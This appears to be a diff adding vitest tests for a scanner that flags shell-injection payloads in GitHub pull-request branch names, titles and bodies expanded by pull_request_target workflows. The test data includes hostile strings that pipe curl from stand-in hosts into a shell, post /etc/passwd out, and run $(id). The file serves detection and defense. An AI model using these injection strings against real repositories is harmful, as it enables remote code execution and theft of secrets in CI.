@@ -1,0 +1,43 @@
+import { describe, expect, it } from 'vitest';
+import { prMetadataFindings, shellPayloadIn } from '../../../src/ecosystems/github-actions/pr-metadata.js';
+import { makeSnapshot } from '../../support/snapshot-factory.js';
+
+const FORMAT = `name: format
+on: pull_request_target
+jobs:
+  format:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          git fetch origin \${{ github.head_ref }}
+          npx prettier --check .
+`;
+
+describe('pr-metadata-shell-payload', () => {
+  it('recognizes shell syntax in branch names and titles, and only strong forms in bodies', () => {
+    expect(shellPayloadIn('main$({curl,-sSfL,raw.example.dev/x}${IFS}|${IFS}bash)', 'branch')).toBe('${IFS}');
+    expect(shellPayloadIn('fix-$(id)', 'branch')).toBe('$(id)');
+    expect(shellPayloadIn('docs: update; curl -s https://x.example | sh', 'title')).toBe('; curl');
+    expect(shellPayloadIn('chore: bump `curl -d @/etc/passwd x.example` deps', 'title')).toBe('`curl -d @/etc/passwd x.example`');
+    expect(shellPayloadIn('Fixes #12.\n\n"$(curl -sSf https://x.example/p | sh)"', 'body')).toBe('$(curl');
+  });
+
+  it('does not flag ordinary branch names, titles with code spans, or documentation in bodies', () => {
+    for (const branch of ['dependabot/npm_and_yarn/zod-4.1.12', 'feat/login-page', 'fix/issue-123_retry']) expect(shellPayloadIn(branch, 'branch')).toBeNull();
+    for (const title of ['fix: handle `null` in the parser', 'docs: explain `npm ci` vs install', 'feat(cli): add --json | --yaml output flags', 'Refactor A && B paths']) expect(shellPayloadIn(title, 'title')).toBeNull();
+    expect(shellPayloadIn('Run `npm test` locally. The script reads $(pwd)/config.', 'body')).toBeNull();
+  });
+
+  it('is critical and names the base workflow that expands it, high when none does', () => {
+    const hostile = makeSnapshot({ headBranch: 'x$(curl${IFS}-sSfL${IFS}evil.example|sh)', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] });
+    const [finding] = prMetadataFindings(hostile);
+    expect([finding?.id, finding?.severity, finding?.path, finding?.line]).toEqual(['pr-metadata-shell-payload', 'critical', '.github/workflows/format.yml', 8]);
+    expect(finding?.detail).toContain('.github/workflows/format.yml:8 (job format, ${{ github.head_ref }})');
+    const unread = makeSnapshot({ title: 'x; curl evil.example | sh', baseFiles: [] });
+    expect(prMetadataFindings(unread).map((f) => [f.severity, f.path])).toEqual([['high', '.github/workflows']]);
+  });
+
+  it('does not report metadata without shell syntax, even when base workflows expand it', () => {
+    expect(prMetadataFindings(makeSnapshot({ headBranch: 'feat/x', title: 'feat: x', body: 'adds x', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] }))).toEqual([]);
+  });
+});
